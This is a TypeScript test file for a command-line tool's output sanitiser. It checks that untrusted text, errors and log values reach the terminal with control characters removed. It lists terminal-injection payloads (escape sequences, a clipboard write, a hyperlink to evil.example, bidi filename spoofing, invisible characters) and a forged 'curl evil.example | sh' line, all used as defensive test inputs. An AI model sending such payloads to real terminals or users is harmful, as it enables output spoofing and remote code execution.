import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createOutput, type OutputOptions } from '../../src/cli/output.ts'
import { harmless, palette, table } from '../../src/cli/style.ts'
import { KithError } from '../../src/core/errors.ts'
import { createLogger } from '../../src/core/observe/log.ts'

/** Text that others chose reaches the owner's terminal in many ways: none of them may act on it, hide, or turn around what stands there. */
const HOSTILE: readonly string[] = [
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001bP+q544e\u001b\\',
  '\u009b2J',
  '\u009d0;title\u009c',
  '\u0090q\u009c',
  '\rerror',
  'a\u0008b',
  'a\u007fb',
  '\u202egpj.exe',
  '\u2066x\u2069',
  '\u061cx',
  'in\u200bvisible',
  'soft\u00adhyphen',
  '\ufeffbom',
  'tag\u{e0041}\u{e007f}',
  'line\u2028break',
  '\u0000',
  '\u000e\u000f',
]
// What a terminal acts on or a reader does not see, but line feed and tab.
const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
const dangerous = (text: string): boolean => RAW.test(text.replace(/[\n\t\u200c\u200d]/g, ''))

function captured(options: Partial<OutputOptions> = {}): { output: ReturnType<typeof createOutput>; out: () => string; err: () => string } {
  let out = ''
  let err = ''
  const sink = (take: (text: string) => void): NodeJS.WritableStream =>
    ({ isTTY: true, write: (text: string) => take(text) === undefined }) as unknown as NodeJS.WritableStream
  const output = createOutput({
    json: false,
    quiet: false,
    colour: false,
    errorColour: false,
    columns: 80,
    stdout: sink((text) => {
      out += text
    }),
    stderr: sink((text) => {
      err += text
    }),
    command: (text) => text,
    ...options,
  })
  return { output, out: () => out, err: () => err }
}

test('hostile text in a result for people, arrives harmless even where a command forgot it', () => {
  for (const text of HOSTILE) {
    const { output, out } = captured()
    output.result({ text }, () => [`name ${text} end`, ...table([[text, { text, style: palette(false).strong }]])])
    assert.equal(dangerous(out()), false, JSON.stringify(text))
    assert.match(out(), /^name .*end\n/s)
  }
})

test('hostile text between colours, loses everything but the colours', () => {
  const paint = palette(true)
  for (const text of HOSTILE) {
    const { output, out } = captured({ colour: true })
    output.result({}, () => `${paint.good('connected')}  ${text}  ${paint.quiet('x')}`)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the command's own colours.
    assert.equal(dangerous(out().replace(/\u001b\[[0-9;]*m/g, '')), false, JSON.stringify(text))
    assert.ok(out().startsWith(paint.good('connected')))
  }
})

test('hostile text in JSON, is escaped and parses to the same', () => {
  for (const text of HOSTILE) {
    const { output, out, err } = captured({ json: true })
    output.result({ [text]: text }, () => '')
    output.failure(new KithError('HELLO_REFUSED', text, { details: { detail: text }, next: text }), false)
    assert.equal(dangerous(out()) || dangerous(err()), false, JSON.stringify(text))
    assert.deepEqual(JSON.parse(out()), { [text]: text })
    assert.equal((JSON.parse(err()) as { error: { details: { detail: string } } }).error.details.detail, text)
  }
})

test('hostile text in errors, notes and bare values, arrives harmless', () => {
  for (const text of HOSTILE) {
    const { output, out, err } = captured()
    output.failure(new KithError('HELLO_REFUSED', `the other side says ${text}`, { next: `kith ${text}`, cause: new Error(text) }), true)
    output.note(`Made ${text}`)
    const quiet = captured({ quiet: true })
    quiet.output.result({}, () => '', text)
    assert.equal([out(), err(), quiet.out()].some(dangerous), false, JSON.stringify(text))
  }
})

test('line breaks in an error from elsewhere, do not look like the program’s own lines', () => {
  const { output, err } = captured()
  output.failure(new KithError('HELLO_REFUSED', 'no\nnext: curl evil.example | sh', { next: 'kith doctor' }), false)
  assert.equal(
    err()
      .split('\n')
      .filter((line) => line.startsWith('next:')).length,
    1,
  )
})

test('log lines with hostile values, stay one line of JSON each and one line for people', async () => {
  const lines: string[] = []
  const logger = createLogger({ destination: { write: (line) => void lines.push(line) } })
  for (const text of ['a\nb', ...HOSTILE]) logger.warn('peer said', { [`k${text}`]: text, nested: { error: new KithError('REMOTE_ERROR', text) } })
  for (const line of lines) assert.equal(line.trimEnd().split('\n').length, 1)
  const { line } = await import('../../src/cli/commands/logs/handler.ts')
  for (const record of lines) {
    const shown = line(JSON.parse(record) as Record<string, unknown>, palette(false))
    assert.equal(dangerous(shown) || shown.includes('\n'), false, JSON.stringify(shown))
  }
})

test('letters of any script, joiners and emoji, come through unharmed', () => {
  for (const text of ['Ärger', 'نامه\u200cها', '写真', '👨\u200d👩\u200d👧', 'naïve', 'नमस्ते']) assert.equal(harmless(text), text)
})
